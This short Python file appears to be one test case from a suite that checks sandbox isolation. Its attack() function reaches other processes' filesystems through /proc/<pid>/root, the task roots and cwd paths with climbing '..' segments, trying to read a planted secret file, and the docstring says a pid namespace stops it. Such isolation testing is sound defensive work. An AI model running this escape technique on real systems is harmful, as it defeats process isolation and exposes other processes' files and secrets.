"""Goes to the course by the root and current folders of other processes.

stopped by: pid namespace
unfenced: succeeds
"""
# %%
import glob
import os


def attack():
    for pid in {1, os.getppid(), VICTIM} - {os.getpid(), 0}:
        for way in (f"/proc/{pid}/root", *glob.glob(f"/proc/{pid}/task/*/root"), *(f"/proc/{pid}/cwd" + "/.." * up for up in range(8))):
            try:
                return open(f"{way}{BAIT}/secret").read()
            except OSError:
                pass
